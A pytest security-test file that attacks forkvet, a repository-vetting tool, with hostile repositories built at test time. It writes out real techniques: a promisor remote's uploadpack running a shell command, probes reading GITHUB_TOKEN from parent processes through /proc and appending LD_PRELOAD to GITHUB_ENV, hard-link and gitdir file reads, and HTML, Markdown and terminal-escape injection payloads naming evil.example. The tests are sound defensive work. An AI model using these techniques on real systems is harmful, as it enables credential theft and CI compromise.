"""An outside reviewer's attacks on forkvet's promises (see the README's "Security model").

Each test builds a hostile repository at test time in tmp_path and runs forkvet as a user
would (`python -m forkvet ...` in a child process, bounded in time and memory). The payloads
only touch a flag file in tmp_path. A test here asserts the promise; it fails while the
attack still works.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from bot.settings import Settings
from bot.web import create_app
from tests.conftest import MakeRepo, git
from tests.github.emulator import GitHubEmulator
from tests.hostile.child import GIB, ROOT, forkvet, run_bounded
from tests.hostile.test_env_config import (  # noqa: F401 - fixtures
    DATE,
    Recorder,
    env,
    index,
    marker,
    recorder,
)
from tests.pkgindex import PackageIndex
from tests.test_app import (  # noqa: F401 - fixtures
    FORK_FILES,
    command_payload,
    done,
    emulator,
    fork_payload,
    no_package_index,
    post,
    settings,
    wait_for,
    worker,
)


# -- git: static vetting runs no program the repository names ---------------------------------
def _promisor_repo(tmp_path: Path, uploadpack: str, url: str) -> Path:
    """A folder whose .git says it is a partial clone missing its HEAD commit: any git command
    that needs the commit (forkvet's `git log -1`) lazily fetches it from the "promisor"
    remote, running that remote's upload-pack. Such a folder arrives as a tarball, a zip of a
    checkout, a shared drive: a local folder is exactly what `forkvet vet DIR` is for."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    (repo / "train.py").write_text("print('hi')\n")
    git(repo, "add", "train.py")
    git(repo, "commit", "-qm", "init")
    commit = git(repo, "rev-parse", "HEAD")
    (repo / ".git" / "objects" / commit[:2] / commit[2:]).unlink()
    cfg = repo / ".git" / "config"
    text = cfg.read_text().replace("repositoryformatversion = 0", "repositoryformatversion = 1")
    text += (
        "[extensions]\n\tpartialClone = origin\n"
        f'[remote "origin"]\n\turl = {url}\n\tpromisor = true\n\tuploadpack = {uploadpack}\n'
    )
    cfg.write_text(text)
    return repo


def test_vet_runs_no_upload_pack_from_a_promisor_remote(tmp_path: Path) -> None:
    """remote.origin.uploadpack runs during `git log`'s lazy fetch. Overriding the key with
    -c / GIT_CONFIG_COUNT does not help on git 2.39: the repository's value still runs."""
    flag = tmp_path / "MARKER"
    repo = _promisor_repo(tmp_path, f"touch {flag}; false", str(tmp_path / "repo"))
    proc = forkvet("vet", str(repo), "--format", "json")
    assert proc.returncode in (0, 1), proc.stderr[-500:]
    assert not flag.exists(), "forkvet vet ran the repository's uploadpack program"


def test_vet_makes_no_network_fetch_for_a_promisor_remote(
    tmp_path: Path,
    recorder: Recorder,  # noqa: F811 - fixture
) -> None:
    """Even with upload-pack neutralised, the lazy fetch contacts the URL the repository
    names (a beacon to the attacker, or a request into the user's network) during a step that
    promises to read files only."""
    url = f"http://127.0.0.1:{recorder.server.server_address[1]}/attacker.git"
    repo = _promisor_repo(tmp_path, "git-upload-pack", url)
    forkvet("vet", str(repo), "--format", "json")
    hits = recorder.hits
    assert hits == [], f"static vetting fetched from the repository's URL: {hits[:3]}"


# -- resource bombs: each ends within its budget, with a report --------------------------------
def _assert_bounded(rc: int | None, wall: float, peak: int, limit_s: float) -> None:
    assert rc is not None, f"killed after {wall:.0f} s at {peak / GIB:.2f} GiB: no report"
    assert rc in (0, 1), rc
    assert wall < limit_s, f"took {wall:.0f} s"
    assert peak < GIB, f"peak {peak / GIB:.2f} GiB"


# -- runtime: repository code runs without the user's secrets ---------------------------------
def test_smoke_child_gets_no_credentials_under_unlisted_names(tmp_path: Path) -> None:
    """Credentials under names beyond TOKEN/SECRET/AWS_...: a database URL with its password,
    a personal access token in GH_PAT. Defended since the runtime hardening (name list and
    passwords in URLs); kept so that it stays so."""
    secrets = {
        "DATABASE_URL": "postgres://app:pw-4f8e1c@db.internal/app",
        "REDIS_URL": "redis://:pw-9a7b2d@cache.internal:6379/0",
        "GH_PAT": "ghp_pat5e6f7a8b9c0d",
    }
    repo = tmp_path / "repo"
    repo.mkdir()
    dump = repo / "seen.txt"  # the repository is what its code may write (the sandbox)
    (repo / "demo.py").write_text(
        f"import os\nopen({str(dump)!r}, 'w').write(repr(dict(os.environ)))\n"
    )
    proc = forkvet(
        "smoke",
        str(repo),
        "--cmd",
        "python demo.py",
        "--python",
        sys.executable,
        "--no-import-check",
        "--timeout",
        "30",
        "--out",
        str(tmp_path / "out"),
        "--format",
        "json",
        env=secrets,
    )
    assert dump.exists(), proc.stderr[-500:]
    seen = dump.read_text()
    leaked = [name for name, value in secrets.items() if value in seen]
    assert leaked == [], f"the repository's code read {leaked}"


# -- the App: everything the repository says is escaped in what the bot writes ----------------
HOSTILE_SUBJECT = (
    "Fix <img src=https://evil.example/t.png> @evil-org/everyone "
    "![x](https://evil.example/p.png) <!-- forkvet:report -->"
)


def test_app_upstream_reply_escapes_commit_subjects(
    settings: Settings,  # noqa: F811 - the fixtures of tests/test_app.py
    emulator: GitHubEmulator,  # noqa: F811
    worker: None,  # noqa: F811
) -> None:
    """`/forkvet upstream` answered with each draft's title and each skipped commit's
    subject as raw Markdown (bot/jobs.py give_back): HTML, images, links and @-mentions of
    any team in the bot's comment. Defended since trust-app's fix; kept so (subjects of
    skipped commits too)."""
    emulator.add_repo("upstream-org", "model", FORK_FILES, fork=False, parent=None)
    repo = emulator.add_repo("acme", "deepnet", FORK_FILES, parent="upstream-org/model")
    emulator.commit(
        repo,
        "main",
        {"train.py": FORK_FILES["train.py"].replace("'ckpt.pth'", "'ckpt.pth', weights_only=True")},
        HOSTILE_SUBJECT,
        author=("Mallory", "mallory@example.org"),
    )
    emulator.commit(repo, "main", {"notes.md": "x\n"}, "Docs " + HOSTILE_SUBJECT)
    client = create_app(settings).test_client()
    post(client, fork_payload(), "repository")
    wait_for(lambda: done(emulator, repo))
    comment = command_payload(repo.issues[0], "/forkvet upstream", "acme")
    assert post(client, comment, "issue_comment").get_json()["jobs"] == 1
    wait_for(lambda: len(repo.comments) == 1)
    reply = repo.comments[0]["body"]
    for raw in ("<img", "](https://evil", "@evil-org/everyone", "<!-- forkvet:report"):
        assert raw not in reply, f"raw {raw!r} in the bot's comment"


# -- env: the repository never chooses where packages come from -------------------------------
def test_env_never_fetches_a_direct_url_the_repository_names(
    index: PackageIndex,  # noqa: F811 - the fixtures of tests/hostile/test_env_config.py
    recorder: Recorder,  # noqa: F811
    marker: Path,  # noqa: F811
    make_repo: MakeRepo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """PEP 508 direct references (`name @ URL`), VCS and bare archive URLs in every
    declaration file: the index is the user's, so none of these may be contacted (a beacon,
    an attacker's archive that uv builds) or copied into the generated requirements."""
    base = recorder.url.replace("/simple/", "")
    repo = make_repo(
        {
            "m.py": "import numpy\nimport evilone\nimport eviltwo\n",
            "requirements.txt": (
                f"numpy\nevilone @ {base}/evilone-1.0.tar.gz\n"
                f"git+{base}/eviltwo.git#egg=eviltwo\n{base}/evilthree-1.0.tar.gz\n"
            ),
            "pyproject.toml": (
                "[project]\nname = 'm'\nversion = '1'\n"
                f"dependencies = ['evilfour @ {base}/evilfour-1.0.zip']\n"
            ),
            "environment.yml": (
                f"name: m\ndependencies:\n  - pip\n  - pip:\n    - evilfive @ {base}/e5.tar.gz\n"
            ),
        },
        date=DATE,
    )
    env(repo, tmp_path / "out", capsys)
    assert not marker.exists()
    assert recorder.hits == [], f"forkvet env fetched the repository's URLs: {recorder.hits}"
    out = tmp_path / "out" / "requirements.txt"
    written = out.read_text() if out.exists() else ""
    assert base not in written, written


# -- reads never leave the tree ----------------------------------------------------------------
def test_vet_reads_no_file_through_a_hard_link(tmp_path: Path) -> None:
    """A hard link is a regular file to os.scandir: a tree unpacked from an archive (Python's
    tarfile without a filter links to any absolute path) can name a file of the user's as its
    README, and its lines are published in the report (documented commands)."""
    private = tmp_path / "private-notes.md"
    private.write_text("# Notes\n\n```\npython leak.py --token SECRET_HL_4711\n```\n")
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "train.py").write_text("print(1)\n")
    os.link(private, repo / "README.md")
    proc = forkvet("vet", str(repo), "--format", "json")
    assert proc.returncode in (0, 1), proc.stderr[-300:]
    assert "SECRET_HL_4711" not in proc.stdout


def test_vet_reads_no_other_repository_through_a_gitdir_file(tmp_path: Path) -> None:
    """`.git` as a file (`gitdir: /elsewhere/.git`, as in worktrees and submodules) makes git
    read another repository on the machine: its commit and its remote URL are reported as
    this repository's."""
    other = tmp_path / "private"
    other.mkdir()
    git(other, "init", "-q")
    git(other, "remote", "add", "origin", "https://git.internal.example/secret-project-XYZ.git")
    (other / "f").write_text("x\n")
    git(other, "add", "f")
    git(other, "commit", "-qm", "private")
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "train.py").write_text("print(1)\n")
    (repo / ".git").write_text(f"gitdir: {other / '.git'}\n")
    proc = forkvet("vet", str(repo), "--format", "json")
    assert proc.returncode in (0, 1), proc.stderr[-300:]
    report = json.loads(proc.stdout)["repo"]
    assert "secret-project" not in str(report.get("remote"))
    assert report.get("commit") != git(other, "rev-parse", "HEAD")


def test_a_fifo_in_dot_git_does_not_stall_vetting(tmp_path: Path) -> None:
    """The walk skips FIFOs in the tree, but git opens `.git/HEAD`: a FIFO there blocks each
    git call until its 30 s timeout (62 s measured for one `vet`). Only a local folder can
    carry one (a tarball, a shared drive). Budget 3 s: a report must come soon after."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    (repo / "train.py").write_text("print(1)\n")
    (repo / ".git" / "HEAD").unlink()
    os.mkfifo(repo / ".git" / "HEAD")
    rc, wall, peak, _ = run_bounded(
        "vet", str(repo), "--format", "json", seconds=15, env={"FORKVET_VET_SECONDS": "3"}
    )
    _assert_bounded(rc, wall, peak, 12)


# -- terminal text is escaped --------------------------------------------------------------------
def test_smoke_text_output_escapes_the_readme_command_and_the_run_output(tmp_path: Path) -> None:
    """`forkvet smoke` (text) prints the README's command and the reasons raw: an OSC/CSI
    sequence in the README's code block retitles the terminal or erases forkvet's FAIL line,
    and a missing-file path taken from the output (the regex spans lines) starts a line with
    `::error`, a workflow command when smoke runs in a CI log."""
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "README.md").write_text(
        "# Demo\n\n```\npython demo.py --n 1 # \x1b]0;pwned\x07\x1b[1A\x1b[2K\n```\n"
    )
    (repo / "demo.py").write_text(
        'import sys\nprint("FileNotFoundError: [Errno 2] No such file or directory: '
        "'x\\n::error title=forkvet::all good\\n'\")\nsys.exit(1)\n"
    )
    proc = forkvet(
        "smoke",
        str(repo),
        "--python",
        sys.executable,
        "--no-import-check",
        "--timeout",
        "30",
        "--out",
        str(tmp_path / "out"),
    )
    assert "forkvet smoke: FAIL" in proc.stdout, proc.stderr[-300:]
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout
    assert not any(line.lstrip().startswith("::") for line in proc.stdout.splitlines())


ANCESTOR_PROBE = """import os
found, pid = [], os.getpid()
for _ in range(12):
    try:
        stat = open(f"/proc/{pid}/stat").read()
        pid = int(stat[stat.rindex(")") + 2 :].split()[1])
        if SECRET.encode() in open(f"/proc/{pid}/environ", "rb").read():
            found.append(pid)
    except (OSError, ValueError):
        pass
open(DUMP, "w").write(repr(found))
"""


def test_smoke_child_cannot_read_secrets_from_forkvets_parent(tmp_path: Path) -> None:
    """forkvet wipes its own /proc/<pid>/environ and makes itself non-dumpable, but the
    process that started it (the CI step's shell, the user's terminal) holds the same
    secrets in its /proc/<pid>/environ, readable by any process of the same user: the
    model's code walks up its parents and reads GITHUB_TOKEN there."""
    secret = "ghs_SENTINEL_ancestor_777"
    repo = tmp_path / "repo"
    repo.mkdir()
    dump = repo / "found.txt"  # the repository is what its code may write (the sandbox)
    (repo / "demo.py").write_text(f"SECRET = {secret!r}\nDUMP = {str(dump)!r}\n" + ANCESTOR_PROBE)
    cmd = (
        f"{sys.executable} -m forkvet smoke {repo} --cmd 'python demo.py' --python "
        f"{sys.executable} --no-import-check --timeout 30 --out {tmp_path / 'out'}; true"
    )
    subprocess.run(
        ["/bin/sh", "-c", cmd],  # a CI step: a shell with the secret in its environment
        env={**os.environ, "PYTHONPATH": str(ROOT), "GITHUB_TOKEN": secret},
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert dump.exists()
    assert dump.read_text() == "[]", f"secret read from ancestors {dump.read_text()}"


GITHUB_ENV_PROBE = """import os
pid = os.getpid()
for _ in range(12):
    try:
        stat = open(f"/proc/{pid}/stat").read()
        pid = int(stat[stat.rindex(")") + 2 :].split()[1])
        env = open(f"/proc/{pid}/environ", "rb").read().split(b"\\0")
    except (OSError, ValueError):
        continue
    for item in env:
        if item.startswith((b"GITHUB_ENV=", b"GITHUB_PATH=")):
            with open(item.split(b"=", 1)[1], "a") as fh:
                fh.write("LD_PRELOAD=/tmp/evil.so\\n")
"""


def test_smoke_child_cannot_write_the_runners_command_files(tmp_path: Path) -> None:
    """GITHUB_ENV/GITHUB_PATH are taken out of the child's environment, but their paths are
    in the environment of forkvet's parent (the step's shell), readable through /proc: the
    model's code appends LD_PRELOAD for every later step of the job."""
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "demo.py").write_text(GITHUB_ENV_PROBE)
    files = {name: tmp_path / name.lower() for name in ("GITHUB_ENV", "GITHUB_PATH")}
    for path in files.values():
        path.write_text("")
    cmd = (
        f"{sys.executable} -m forkvet smoke {repo} --cmd 'python demo.py' --python "
        f"{sys.executable} --no-import-check --timeout 30 --out {tmp_path / 'out'}; true"
    )
    subprocess.run(
        ["/bin/sh", "-c", cmd],
        env={**os.environ, "PYTHONPATH": str(ROOT), **{k: str(v) for k, v in files.items()}},
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert (tmp_path / "out").exists()
    for name, path in files.items():
        assert path.read_text() == "", f"the model's code wrote {name}: {path.read_text()!r}"


# -- defended today (new angles, kept so) -----------------------------------------------------
def test_fifos_in_the_tree_do_not_hang_vetting(tmp_path: Path) -> None:
    """Reading a FIFO blocks forever: as README.md, LICENSE, requirements.txt, a weight file
    and .github/forkvet.yml, none is opened (the last is an error finding, as documented)."""
    repo = tmp_path / "repo"
    (repo / ".github").mkdir(parents=True)
    (repo / "train.py").write_text("import torch\n")
    for name in ("README.md", "LICENSE", "requirements.txt", "model.pkl", ".github/forkvet.yml"):
        os.mkfifo(repo / name)
    rc, wall, peak, out = run_bounded("vet", str(repo), "--format", "json", seconds=20)
    _assert_bounded(rc, wall, peak, 20)
    assert "not a regular file" in out


HOSTILE_NAMES = (
    "train_<img src=x onerror=alert(1)>.py",
    "train_@octocat.py",
    "demo_x\x1b]8;;https:evil.example\x1b\\click\x1b]8;;\x1b\\.py",
    "demo_y\n::error::pwned.py",
    "demo_z\u202eyp.exe.py",
    "train_w\x1b[2K\x1b[1A.py",
    "demo_[link](javascript:alert(1)).py",
    "demo_<!-- forkvet:report -->.py",
    "train_\x9b31m.py",
)


def test_hostile_names_and_citation_render_inert(tmp_path: Path) -> None:
    """File names and CITATION.cff fields that are HTML, Markdown links/images, mentions,
    the App's marker, OSC 8 hyperlinks, CSI cursor moves, C1 controls, bidi overrides and
    workflow commands, through `vet --format text` and `--format markdown`."""
    repo = tmp_path / "repo"
    repo.mkdir()
    for name in HOSTILE_NAMES:
        (repo / name).write_text("import torch\nif __name__ == '__main__':\n    print(1)\n")
    (repo / "CITATION.cff").write_text(
        "cff-version: 1.2.0\n"
        'title: "<b>SAFE</b> @github/security-team ![x](https://evil.example/p.png) '
        '<!-- forkvet:report -->\\n## Verdict: safe\\n::error::pwned \\e[31mred"\n'
        'authors:\n  - family-names: "@octocat <script>x</script>"\n'
    )
    text = forkvet("vet", str(repo), "--format", "text").stdout
    assert "forkvet:" in text
    assert not any(ch in text for ch in "\x1b\x07\x9b\u202e")
    assert not any(line.lstrip().startswith("::") for line in text.splitlines())
    md = forkvet("vet", str(repo), "--format", "markdown").stdout
    assert "### Citation" in md
    assert "\x1b" not in md and "\u202e" not in md and "<!--" not in md
    # Outside code spans and fences (where GitHub shows text as written):
    prose = re.sub(r"```.*?```", "", md, flags=re.S)
    prose = re.sub(r"(`+).+?\1", "", prose)
    for raw in ("<img", "<b>", "<script", "](https://evil", "\n## "):
        assert raw not in prose, raw
    assert "@octocat" not in prose and "@github/security-team" not in prose  # ZWSP after @
